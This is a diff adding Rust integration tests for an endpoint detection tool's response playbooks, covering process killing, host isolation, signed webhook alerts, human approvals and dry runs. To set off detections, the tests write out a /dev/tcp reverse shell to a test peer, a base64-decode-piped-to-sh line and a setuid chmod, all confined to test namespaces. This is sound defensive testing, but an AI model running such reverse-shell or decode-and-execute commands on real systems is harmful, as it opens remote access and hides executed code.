@@ -1,0 +1,382 @@
+//! Playbooks end to end, with the real binaries. Containment acts only inside namespaces the
+//! tests create (controller, agent host and peer joined by veth pairs); the tests on loopback
+//! only use steps that touch no host.
+
+#![allow(clippy::unwrap_used)] // a failed unwrap is a failed test
+
+use cordon_tests::deploy::{AgentHandle, Deployment, PEER_V4};
+use cordon_tests::netns::{EchoServer, reachable};
+use cordon_tests::webhook::WebhookReceiver;
+use cordon_tests::{poll, require_root};
+use serde_json::Value;
+use std::path::PathBuf;
+use std::process::Command;
+use std::time::Duration;
+
+fn repo(dir: &str) -> String {
+    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
+        .join("..")
+        .join(dir)
+        .canonicalize()
+        .unwrap()
+        .display()
+        .to_string()
+}
+
+fn detection(extra: &str) -> String {
+    format!(
+        "[detection]\nrules_dir = {}\n{extra}",
+        toml::Value::from(repo("rules"))
+    )
+}
+
+fn rule_id(stem: &str) -> String {
+    let text =
+        std::fs::read_to_string(format!("{}/linux/cordon_{stem}.yml", repo("rules"))).unwrap();
+    text.lines()
+        .find_map(|l| l.strip_prefix("id: "))
+        .unwrap()
+        .trim()
+        .to_string()
+}
+
+fn online(d: &Deployment, name: &str, labels: &[&str]) -> AgentHandle {
+    let mut a = d.enroll_agent(name, labels);
+    d.start_agent(&mut a);
+    d.wait_online(&a, true, Duration::from_secs(20));
+    a
+}
+
+fn incident_of(d: &Deployment, agent: &AgentHandle, rule: &str) -> Value {
+    let alert = poll(Duration::from_secs(20), || {
+        d.ctl_json(&["alerts", "list", "--agent", &agent.id])["alerts"]
+            .as_array()?
+            .iter()
+            .find(|a| a["rule_id"] == rule)
+            .cloned()
+    })
+    .unwrap_or_else(|| panic!("no alert for {rule}"));
+    d.ctl_json(&["incidents", "show", alert["incident_id"].as_str().unwrap()])
+}
+
+fn timeline_text(inc: &Value) -> String {
+    inc["timeline"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|t| format!("{} {} {}\n", t["kind"], t["actor"], t["text"]))
+        .collect()
+}
+
+/// Polls the incident until `ok` holds for it.
+fn wait_incident(d: &Deployment, id: &str, what: &str, ok: impl Fn(&Value) -> bool) -> Value {
+    poll(Duration::from_secs(30), || {
+        let inc = d.ctl_json(&["incidents", "show", id]);
+        ok(&inc).then_some(inc)
+    })
+    .unwrap_or_else(|| {
+        panic!(
+            "{what}:\n{}",
+            timeline_text(&d.ctl_json(&["incidents", "show", id]))
+        )
+    })
+}
+
+#[test]
+fn netns_a_reverse_shell_is_killed_its_host_isolated_and_people_told() {
+    if !require_root("netns_a_reverse_shell_is_killed_its_host_isolated_and_people_told") {
+        return;
+    }
+    let mut d = Deployment::namespaces_with_peer(&detection(""));
+    let ctl_ns = d.ctl_ns.as_ref().unwrap().name.clone();
+    let hook = WebhookReceiver::start(Some(&ctl_ns));
+    let secret = d.dir.path().join("webhook.secret");
+    std::fs::write(&secret, "s3cret-for-tests\n").unwrap();
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::set_permissions(&secret, std::fs::Permissions::from_mode(0o600)).unwrap();
+    d.configure_controller(&format!(
+        "[playbooks]\ndir = {}\n[[notify.webhooks]]\nname = \"soc\"\nurl = \"{}\"\nsecret_file = {}\n",
+        toml::Value::from(repo("playbooks")),
+        hook.url(),
+        toml::Value::from(secret.display().to_string())
+    ));
+    let agent = online(&d, "victim", &[]);
+    let host = d.agent_ns.as_ref().unwrap().name.clone();
+    let peer = d.peer_ns.as_ref().unwrap().name.clone();
+    let _listener = EchoServer::start(&peer, &format!("{PEER_V4}:8080"));
+    let peer_addr: std::net::SocketAddr = format!("{PEER_V4}:8080").parse().unwrap();
+    assert!(reachable(&host, peer_addr), "peer reachable before");
+
+    // The reverse shell: bash on the agent's host holding a connection to the peer.
+    let mut shell = d
+        .agent_ns
+        .as_ref()
+        .unwrap()
+        .command("bash")
+        .args([
+            "-c",
+            &format!("exec 3<>/dev/tcp/{PEER_V4}/8080; sleep 60 <&3"),
+        ])
+        .spawn()
+        .unwrap();
+    let killed = poll(Duration::from_secs(20), || shell.try_wait().unwrap());
+    if killed.is_none() {
+        let _ = shell.kill();
+    }
+    let status = killed.expect("the playbook killed the shell");
+    use std::os::unix::process::ExitStatusExt;
+    assert_eq!(status.signal(), Some(9), "killed, not exited: {status:?}");
+
+    let inc = incident_of(&d, &agent, &rule_id("reverse_shell_dev_tcp"));
+    let id = inc["id"].as_str().unwrap().to_string();
+    let inc = wait_incident(&d, &id, "the playbook did not finish", |i| {
+        timeline_text(i).contains("playbook reverse-shell finished")
+    });
+    assert!(!reachable(&host, peer_addr), "the peer is cut off");
+    d.ctl_json(&["ping", &agent.id]);
+    assert_eq!(inc["status"], "contained");
+    assert_eq!(inc["severity"], "critical");
+    let text = timeline_text(&inc);
+    for want in [
+        "\"alert\"",
+        "playbook reverse-shell started",
+        "kill (kill_process): succeeded",
+        "isolate (isolate_host): succeeded",
+        "contain (set_incident): succeeded",
+        "tell (notify): succeeded",
+        "status open -> contained",
+    ] {
+        assert!(text.contains(want), "{want} missing from\n{text}");
+    }
+
+    let got = hook.all();
+    assert_eq!(got.len(), 1, "one notification");
+    let r = &got[0];
+    let ts = &r.headers["x-cordon-timestamp"];
+    let sig = &r.headers["x-cordon-signature"];
+    assert!(cordon_controller::notify::sign::verify(
+        b"s3cret-for-tests",
+        ts,
+        &r.body,
+        sig
+    ));
+    assert!(!cordon_controller::notify::sign::verify(
+        b"wrong", ts, &r.body, sig
+    ));
+    let body: Value = serde_json::from_slice(&r.body).unwrap();
+    assert_eq!(body["incident_id"], id.as_str());
+    assert_eq!(body["playbook"], "reverse-shell");
+    assert_eq!(body["agent_id"], agent.id.as_str());
+}
+
+fn apply(d: &Deployment, name: &str, yaml: &str) {
+    let f = d.dir.path().join(format!("{name}.yml"));
+    std::fs::write(&f, yaml).unwrap();
+    d.ctl(&["playbooks", "apply", f.to_str().unwrap()]);
+}
+
+fn sh(script: &str) {
+    let _ = Command::new("/bin/sh")
+        .args(["-c", script])
+        .status()
+        .unwrap();
+}
+
+#[test]
+fn approvals_let_a_person_decide_and_are_recorded() {
+    if !require_root("approvals_let_a_person_decide_and_are_recorded") {
+        return;
+    }
+    let d = Deployment::loopback(&detection(""));
+    let agent = online(&d, "a1", &[]);
+    for (name, rule) in [
+        ("ask-b64", "base64_decode_to_shell"),
+        ("ask-suid", "setuid_setgid_bit"),
+    ] {
+        apply(
+            &d,
+            name,
+            &format!(
+                "name: {name}\ntrigger:\n  rules: [{}]\nsteps:\n  - action: wait_for_approval\n    timeout_secs: 120\n  - action: set_incident\n    severity: critical\n",
+                rule_id(rule)
+            ),
+        );
+    }
+    // A refused file names its line and field.
+    let bad = d.dir.path().join("bad.yml");
+    std::fs::write(
+        &bad,
+        "name: bad\ntrigger:\n  rules: [x]\nsteps:\n  - action: isolate_host\n    tree: true\n",
+    )
+    .unwrap();
+    let out = d.try_ctl(&["playbooks", "apply", bad.to_str().unwrap()]);
+    assert!(!out.status.success());
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        err.contains("bad.yml: line 6") && err.contains("steps[0].tree"),
+        "{err}"
+    );
+
+    sh("echo aWQK | base64 -d | sh >/dev/null");
+    let tmp = tempfile::tempdir().unwrap();
+    sh(&format!(
+        "touch {0}/f && chmod u+s {0}/f",
+        tmp.path().display()
+    ));
+
+    let pending = poll(Duration::from_secs(30), || {
+        let list = d.ctl_json(&["approvals", "list"])["approvals"]
+            .as_array()?
+            .clone();
+        (list.len() >= 2).then_some(list)
+    })
+    .expect("two approvals pending");
+    let inc_id = pending[0]["incident_id"].as_str().unwrap().to_string();
+    let shown = d.ctl(&["incidents", "show", &inc_id]);
+    assert!(shown.contains("waiting for approval"), "{shown}");
+    let inc = d.ctl_json(&["incidents", "show", &inc_id]);
+    let by_playbook = |name: &str| {
+        inc["timeline"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .find(|t| t["kind"] == "approval" && t["actor"] == format!("playbook:{name}").as_str())
+            .map(|t| t["ref"].as_str().unwrap().to_string())
+    };
+    let approve = by_playbook("ask-b64").unwrap();
+    let deny = by_playbook("ask-suid").unwrap();
+    let out = d.ctl(&["approvals", "approve", &approve, "--reason", "looks bad"]);
+    assert!(out.contains("approved by admin"), "{out}");
+    d.ctl(&["approvals", "deny", &deny, "--reason", "a test"]);
+    // Deciding twice is refused.
+    assert!(!d.try_ctl(&["approvals", "deny", &approve]).status.success());
+
+    let inc = wait_incident(&d, &inc_id, "the runs did not end", |i| {
+        let t = timeline_text(i);
+        t.contains("playbook ask-b64 finished") && t.contains("playbook ask-suid aborted")
+    });
+    assert_eq!(inc["severity"], "critical", "the approved run went on");
+    let text = timeline_text(&inc);
+    assert!(
+        text.contains(&format!("approval {approve} approved")),
+        "{text}"
+    );
+    assert!(text.contains(&format!("approval {deny} denied")), "{text}");
+    let all = d.ctl_json(&["approvals", "list", "--all"])["approvals"]
+        .as_array()
+        .unwrap()
+        .clone();
+    let decided = all.iter().find(|a| a["id"] == approve.as_str()).unwrap();
+    assert_eq!(decided["decided_by"], "admin");
+    assert!(decided["decided_at_ms"].as_i64().unwrap() > 0);
+    let _ = agent;
+}
+
+#[test]
+fn netns_guards_dry_runs_protected_hosts_and_the_isolation_budget() {
+    if !require_root("netns_guards_dry_runs_protected_hosts_and_the_isolation_budget") {
+        return;
+    }
+    let d = Deployment::namespaces(&detection("[playbooks]\nisolation_budget_per_hour = 1\n"));
+    // Three ordinary hosts and a protected one (all in the test's agent namespace). The same
+    // exec is seen by all of them: one rule floods alerts across the fleet.
+    let agents: Vec<AgentHandle> = (0..3).map(|i| online(&d, &format!("h{i}"), &[])).collect();
+    let protected = online(&d, "crown-jewel", &["cordon.protected=true"]);
+    apply(
+        &d,
+        "isolate-on-suid",
+        &format!(
+            "name: isolate-on-suid\ntrigger:\n  rules: [{}]\nsteps:\n  - action: isolate_host\n    timeout_secs: 30\n",
+            rule_id("setuid_setgid_bit")
+        ),
+    );
+    apply(
+        &d,
+        "rehearsal",
+        &format!(
+            "name: rehearsal\ndry_run: true\ntrigger:\n  rules: [{}]\nsteps:\n  - action: kill_process\n  - action: isolate_host\n",
+            rule_id("setuid_setgid_bit")
+        ),
+    );
+    let tmp = tempfile::tempdir().unwrap();
+    sh(&format!(
+        "touch {0}/f && chmod u+s {0}/f",
+        tmp.path().display()
+    ));
+
+    // Exactly one host is isolated; the others wait for approval, the protected one for its
+    // own reason.
+    let approvals = poll(Duration::from_secs(40), || {
+        let list = d.ctl_json(&["approvals", "list"])["approvals"]
+            .as_array()?
+            .clone();
+        (list.len() >= 3).then_some(list)
+    })
+    .unwrap_or_else(|| panic!("{:#}", d.ctl_json(&["approvals", "list", "--all"])));
+    assert_eq!(approvals.len(), 3, "{approvals:#?}");
+    let reasons: Vec<&str> = approvals
+        .iter()
+        .map(|a| a["reason"].as_str().unwrap())
+        .collect();
+    assert_eq!(
+        reasons.iter().filter(|r| r.contains("budget")).count(),
+        2,
+        "{reasons:?}"
+    );
+    let guarded = approvals
+        .iter()
+        .find(|a| a["agent_id"] == protected.id.as_str())
+        .unwrap();
+    assert!(
+        guarded["reason"].as_str().unwrap().contains("protected"),
+        "{guarded}"
+    );
+    let isolated: Vec<&AgentHandle> = poll(Duration::from_secs(20), || {
+        let v: Vec<&AgentHandle> = agents
+            .iter()
+            .filter(|a| d.agent_record(&a.id)["isolation_desired"] == true)
+            .collect();
+        (v.len() == 1).then_some(v)
+    })
+    .expect("exactly one host isolated");
+    assert_eq!(isolated.len(), 1);
+    assert_eq!(d.agent_record(&protected.id)["isolation_desired"], false);
+
+    // The dry run recorded what it would do and did nothing more.
+    let inc = d.ctl_json(&[
+        "incidents",
+        "show",
+        guarded["incident_id"].as_str().unwrap(),
+    ]);
+    let text = wait_incident(&d, inc["id"].as_str().unwrap(), "no dry run", |i| {
+        timeline_text(i).contains("playbook rehearsal finished")
+    });
+    let text = timeline_text(&text);
+    assert!(
+        text.contains("(kill_process): dry_run - would kill pid"),
+        "{text}"
+    );
+    assert!(
+        text.contains("(isolate_host): dry_run - would isolate"),
+        "{text}"
+    );
+
+    // And `playbooks dry-run` against a stored alert says what would happen.
+    let alert = d.ctl_json(&["alerts", "list", "--agent", &protected.id])["alerts"][0]["id"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    let f = d.dir.path().join("isolate-on-suid.yml");
+    let out = d.ctl(&[
+        "playbooks",
+        "dry-run",
+        f.to_str().unwrap(),
+        "--alert",
+        &alert,
+    ]);
+    assert!(out.contains("this alert triggers the playbook"), "{out}");
+    assert!(
+        out.contains("would isolate the host") && out.contains("protected"),
+        "{out}"
+    );
+}
